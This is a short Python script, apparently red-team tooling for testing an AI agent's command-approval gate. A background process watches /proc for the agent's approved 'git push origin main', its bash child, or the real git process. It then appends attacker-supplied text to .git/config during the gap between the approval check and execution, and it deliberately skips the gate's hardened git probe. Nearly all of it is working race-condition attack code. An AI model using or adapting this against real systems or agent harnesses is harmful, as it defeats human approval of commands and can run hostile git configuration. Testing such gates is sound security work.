# F10's class again: a background green process waits for the agent's shell
# call of the approved push (seen in /proc), sleeps DELAY ms, then appends
# the text of CFG (VICTIM replaced) to .git/config. RT_TRIGGER=git waits for
# the approved git process itself instead of the agent's shell call.
# python3 tools/w.py DELAY_MS CFG VICTIM
import os, sys, time

delay_ms, cfg, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3]
text = open(cfg).read().replace("VICTIM", victim)
deadline = time.time() + 300
me = os.getpid()
while time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            c = open("/proc/%s/cmdline" % p, "rb").read().split(b"\0")
        except Exception:
            continue
        trig = os.environ.get("RT_TRIGGER", "shell")
        if trig == "shell":
            hit = b"git push origin main" in c[1:] and not c[0].endswith(b"git")
        elif trig == "bash":  # the real bash gatesh starts for the approved command
            hit = (c[0] == b"bash" or c[0].endswith(b"/bash")) and any(b"git push origin main" in x for x in c[1:])
        elif trig == "comm":
            hit = False
        else:  # the approved git itself, not the probe's hardened git
            hit = c[0].endswith(b"git") and b"push" in c and b"core.fsmonitor=false" not in c
        if trig == "comm" and b"git push origin main" in c[1:] and not c[0].endswith(b"git") and not c[0].endswith(b"bash"):
            # the agent's gatesh: wait until it becomes bash (after its last check), then write at once
            while True:
                try:
                    comm = open("/proc/%s/comm" % p).read().strip()
                except Exception:
                    sys.exit(1)
                if comm != "gatesh":
                    break
            with open(".git/config", "a") as f:
                f.write(text)
            print("written when the process became", comm, flush=True)
            sys.exit(0)
        if hit:
            time.sleep(delay_ms / 1000.0)
            with open(".git/config", "a") as f:
                f.write(text)
            print("written after", delay_ms, "ms", flush=True)
            sys.exit(0)
    time.sleep(0.0005)
